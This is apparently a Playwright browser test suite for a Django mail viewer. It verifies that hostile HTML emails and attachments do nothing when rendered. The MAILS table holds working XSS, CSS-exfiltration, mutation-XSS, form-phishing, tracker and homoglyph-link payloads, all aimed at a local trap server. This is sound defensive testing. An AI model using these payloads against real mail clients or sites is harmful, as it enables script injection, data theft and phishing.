"""Hostile mails in a real browser: nothing leaves, nothing runs, nothing moves the page, with each wall alone."""

from __future__ import annotations

import base64
import socket
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from django.urls import reverse
from playwright.sync_api import Browser, Frame, Page

from tenesa.accounts.models import User
from tenesa.mail import views
from tenesa.mail.models import Blob, InboundAttachment, InboundMail
from tenesa.mail.sanitise import Formatted
from tests import factories
from tests.accessibility import violations
from tests.journeys.patience import eventually
from tests.ui.test_browser import Desk, desk
from tickets.models import EmailCase

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
RUN = "top.location='TRAP/run';fetch('TRAP/run');new Image().src='TRAP/run';alert(1)"
MAILS = {
    "script": f"<script>{RUN}</script><script src='TRAP/a.js'></script>",
    "handlers": f'<img src=x onerror="{RUN}"><body onload="{RUN}"><details open ontoggle="{RUN}">x</details>',
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script><image href="TRAP/s.png"/></svg><svg><a href="javascript:x">x',
    "links": f'<a href="javascript:{RUN}" id=a>Klik</a><a href="data:text/html,<script>{RUN}</script>">x</a>',
    "css": "<style>@import 'TRAP/i.css';*{background:url(TRAP/c.png)}@font-face{font-family:a;src:url(TRAP/f)}"
    "input[value^=a]{background:url(TRAP/leak-a)}</style><p style='background:url(TRAP/p);font-family:a'>x</p>"
    "<div style='content:url(TRAP/q);cursor:url(TRAP/r),auto;border-image:url(TRAP/s) 1'>x</div>",
    "refresh": "<meta http-equiv=refresh content='0;url=TRAP/m'><meta http-equiv=Set-Cookie content='sessionid=x'>",
    "form": "<form action='TRAP/f' ><input name=password autofocus><button formaction='TRAP/g'>Masuk</form>",
    "base": "<base href='TRAP/' target=_top><img src=rel.png><a href=rel>x</a>",
    "frames": f"<iframe src='TRAP/i'></iframe>"
    f"<iframe srcdoc='<script>{RUN.replace(chr(39), '&quot;')}</script>'></iframe>"
    "<object data='TRAP/o'></object><embed src='TRAP/e'><frameset><frame src='TRAP/fs'></frameset>",
    "media": "<video src='TRAP/v' poster='TRAP/vp' autoplay></video><audio src='TRAP/au' autoplay></audio>"
    "<picture><source srcset='TRAP/ps'><img src='TRAP/pi'></picture><img srcset='TRAP/ss 1x'>",
    "hints": "<link rel=prefetch href='TRAP/pf'><link rel=dns-prefetch href='TRAP'><link rel=preconnect href='TRAP'>"
    "<link rel=stylesheet href='TRAP/l.css'><link rel=icon href='TRAP/icon'>",
    "old": "<table background='TRAP/tb'><tr><td background='TRAP/td'>x</table><body background='TRAP/bb'>",
    "mutation": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>"
    f"<noscript><p title='</noscript><img src=x onerror=\"{RUN}\">'></noscript>",
    "tracker": "<img src='TRAP/t.gif' width=1 height=1><img src='//localhost/t.gif'>",
    "nested": "<div>" * 5000 + "<img src='TRAP/n'>",
    "lookalike": "<a href='https://аррӏе.com'>apple.com</a><a href='TRAP/phish'>https://www.bri.co.id</a>",
}


class Trap:
    """Counts whoever connects, whatever they would have said."""

    def __init__(self) -> None:
        self.hits = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._count, daemon=True).start()

    def _count(self) -> None:
        while True:
            try:
                line, _address = self._socket.accept()
            except OSError:
                return
            self.hits += 1
            line.close()

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()


@pytest.fixture
def trap() -> Iterator[Trap]:
    opened = Trap()
    yield opened
    opened.close()


@pytest.fixture
def case(trap: Trap) -> EmailCase:
    opened = factories.opened()
    for name, html in MAILS.items():
        mail = factories.inbound(name, html=html.replace("TRAP", trap.url), subject=name)
        InboundMail.objects.filter(pk=mail.pk).update(procedure=opened.procedure_name(), case_id=opened.pk)
    return opened


def attach(case: EmailCase, name: str, content_type: str, content: bytes, **more: str) -> InboundMail:
    mail = factories.inbound(name, html="<p>Lihat</p><img src='cid:foto@x' alt=Foto>", subject=name)
    InboundMail.objects.filter(pk=mail.pk).update(procedure=case.procedure_name(), case_id=case.pk)
    blob = Blob.keep([content])[0]
    InboundAttachment.objects.create(
        mail=mail, blob=blob, name=name, content_type=content_type, size=len(content), **more
    )
    return mail


def show(page: Page, mail: int) -> Frame:
    """One mail as it was sent; the frame when its document has loaded."""
    page.click(f"button[hx-get='{reverse('mail:formatted', args=[mail])}']")
    handle = page.wait_for_selector(f"#as-sent-{mail} iframe")
    assert handle is not None
    frame = handle.content_frame()
    assert frame is not None
    frame.wait_for_load_state()
    return frame


def show_all(page: Page, case: EmailCase) -> None:
    for mail in InboundMail.objects.filter(case_id=case.pk, html__gt="").values_list("pk", flat=True):
        show(page, mail)
    page.wait_for_timeout(1000)


def open_case(browser: Browser, server: Any, user: User, case: EmailCase) -> tuple[Desk, list[str]]:
    window = desk(browser, server, user)
    ran: list[str] = []
    window.page.on("dialog", lambda dialog: ran.append(dialog.message))
    window.page.on("popup", lambda popup: ran.append(popup.url))
    window.open(reverse("cases:case", args=[case.pk]))
    return window, ran


def test_hostile_mails_do_nothing(browser: Browser, live_server: Any, case: EmailCase, rini: User, trap: Trap) -> None:
    window, ran = open_case(browser, live_server, rini, case)
    address = window.page.url
    show_all(window.page, case)

    assert trap.hits == 0
    assert ran == []
    assert window.page.url == address
    assert window.complaints == []
    assert violations(window.page) == []


@pytest.fixture
def _unsanitised(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(views, "formatted", lambda mail, pictures=False: Formatted(mail.html))


@pytest.mark.usefixtures("_unsanitised")
def test_the_sandbox_and_the_policy_hold_without_the_sanitiser(
    browser: Browser, live_server: Any, case: EmailCase, rini: User, trap: Trap
) -> None:
    window, ran = open_case(browser, live_server, rini, case)
    address = window.page.url
    show_all(window.page, case)

    assert ran == []
    assert window.page.url == address
    assert trap.hits <= 1  # a refresh of the frame itself is the one thing that no policy forbids, hence the sanitiser


def test_pictures_load_after_the_click_and_for_this_mail_alone(
    browser: Browser, live_server: Any, case: EmailCase, rini: User, trap: Trap
) -> None:
    html = f"<img src='{trap.url}/foto.jpg' alt='Foto'>"
    InboundMail.objects.filter(case_id=case.pk, subject="script").update(html=html)
    mail = InboundMail.objects.get(case_id=case.pk, subject="script").pk
    window, _ran = open_case(browser, live_server, rini, case)
    show(window.page, mail)
    window.page.wait_for_timeout(500)
    assert trap.hits == 0

    window.page.click(f"#as-sent-{mail} footer button")
    window.page.wait_for_selector(f"#as-sent-{mail} button[hx-vals*='0']")
    eventually(lambda: trap.hits, what="the picture")


def test_own_pictures_show_and_active_files_are_only_downloaded(
    browser: Browser, live_server: Any, rini: User, trap: Trap
) -> None:
    case = factories.opened()
    picture = attach(case, "foto.png", "image/png", PNG, content_id="foto@x")
    script = f"<script>{RUN}</script>".replace("TRAP", trap.url)
    active = [
        attach(case, "halaman.html", "text/html", script.encode()),
        attach(case, "gambar.svg", "image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg'>{script}</svg>".encode()),
        attach(case, "palsu.png", "image/png", script.encode()),
    ]
    window, ran = open_case(browser, live_server, rini, case)
    page = window.page
    frame = show(page, picture.pk)
    frame.wait_for_selector("img")
    page.click("details.peek summary >> nth=0")
    page.wait_for_load_state("networkidle")
    assert page.evaluate("document.querySelector('.peek img').naturalWidth") == 1

    assert 'src="data:image/png;base64,' in frame.content()
    for mail in active:
        part = mail.attachments.get()
        with page.expect_download() as download:
            page.click(f"a.file[href='{reverse('mail:attachment', args=[mail.pk, part.pk])}']")
        assert download.value.suggested_filename == part.name
    assert (trap.hits, ran, window.complaints) == (0, [], [])
    assert violations(page) == []  # last: axe speaks to the frame, and the browser complains that it may not
